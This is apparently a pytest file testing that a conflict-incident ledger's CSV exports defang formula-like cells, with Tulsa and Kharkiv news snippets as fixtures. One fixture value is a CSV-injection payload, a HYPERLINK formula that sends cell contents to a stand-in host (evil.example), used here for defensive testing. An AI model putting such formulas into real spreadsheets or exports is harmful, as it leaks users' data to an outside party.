"""CSV exports opened in a spreadsheet: a text cell from a report that starts like a formula (a headline
"=HYPERLINK(...)", an outlet "@handle", a title "-- Live updates") is kept inert behind a single quote, as
OWASP advises against CSV injection, while numbers (a negative longitude) stay numbers; and the notes column
says each evidence text once, however often the article repeated the paragraph it came from."""

from __future__ import annotations

import copy
import csv
import io

import pytest

from harmledger.ledger import Ledger
from harmledger.store.export import acled_row, flat_row

TULSA = ("Two people were killed and three others wounded when a gunman opened fire at a bar in Tulsa on Friday night, "
         "police said.")


@pytest.fixture(scope="module")
def ledger(tmp_path_factory):
    with Ledger(f"sqlite:///{tmp_path_factory.mktemp('ux25-export')}/ledger.db") as opened:
        opened.ingest_text(TULSA, published="2024-06-01", source='=HYPERLINK("http://evil.example/?"&A1,"AP")',
                           title="-- Live updates: Tulsa bar shooting")
        opened.ingest_text("KHARKIV, Ukraine — A Russian drone strike on a residential district of Kharkiv wounded five people "
                           "on Sunday, regional governor Oleh Syniehubov said.", published="2024-05-19", source="@kyivindependent",
                           title="+5 wounded in Kharkiv")
        yield opened


def _csv(ledger, fmt):
    out = io.StringIO()
    ledger.export(fmt, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("fmt", ["csv", "acled-csv", "ucdp-csv"])
def test_no_text_cell_starts_like_a_formula(ledger, fmt):
    rows = _csv(ledger, fmt)
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "", 1).isdigit(), (column, cell)


def test_formula_like_text_is_kept_whole_behind_a_quote_and_numbers_stay_numbers(ledger):
    tulsa, kharkiv = sorted(_csv(ledger, "csv"), key=lambda row: row["place_name"] != "Tulsa")
    assert tulsa["source"] == tulsa["source_names"] == """'=HYPERLINK("http://evil.example/?"&A1,"AP")"""
    assert tulsa["title"] == "'-- Live updates: Tulsa bar shooting"
    assert float(tulsa["lon"]) < 0 and tulsa["lon"].startswith("-")  # a longitude west of Greenwich is no formula
    assert kharkiv["source"] == "'@kyivindependent" and kharkiv["title"] == "'+5 wounded in Kharkiv"
    acled = {row["location"]: row for row in _csv(ledger, "acled-csv")}
    assert acled["Tulsa"]["source"].startswith("'=") and acled["Tulsa"]["fatalities"] == "2"


def test_json_keeps_the_words_as_the_report_gave_them(ledger):
    out = io.StringIO()
    ledger.export("jsonl", out)
    assert '"source": "@kyivindependent"' in out.getvalue()


def test_notes_say_each_evidence_text_once_in_order(ledger):
    row = next(r for r in ledger.incidents() if (r["place"] or {}).get("name") == "Tulsa")
    texts = [span["text"] for span in row["evidence"]]
    assert len(texts) >= 2 and len(set(texts)) == len(texts)
    repeated = copy.deepcopy(row)  # the same paragraph again further down the article: the same words at later offsets
    shift = len(TULSA) + 2
    repeated["evidence"] = row["evidence"] + [{**span, "start": span["start"] + shift, "end": span["end"] + shift}
                                              for span in row["evidence"]]
    assert acled_row(repeated)["notes"] == acled_row(row)["notes"] == " … ".join(texts)
    assert flat_row(repeated)["evidence"] == " … ".join(texts)
